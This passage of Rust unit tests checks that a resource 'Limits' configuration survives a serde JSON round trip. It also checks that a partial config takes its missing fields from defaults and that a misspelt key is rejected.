        let back: Limits = serde_json::from_value(json).expect("limits deserialize");
        assert_eq!(back, limits);
    }

    #[test]
    fn limits_config_fills_missing_limits_and_rejects_misspelt_ones() {
        let partial: Limits =
            serde_json::from_str(r#"{"cpuMax": 64}"#).expect("a partial config is read");
        let misspelt = serde_json::from_str::<Limits>(r#"{"cpuMaxx": 64}"#);

        assert_eq!(
            partial,
            Limits {
                cpu_max: 64.0,
                ..Limits::titus_defaults()
            }
        );
        assert!(misspelt.is_err());
    }
}
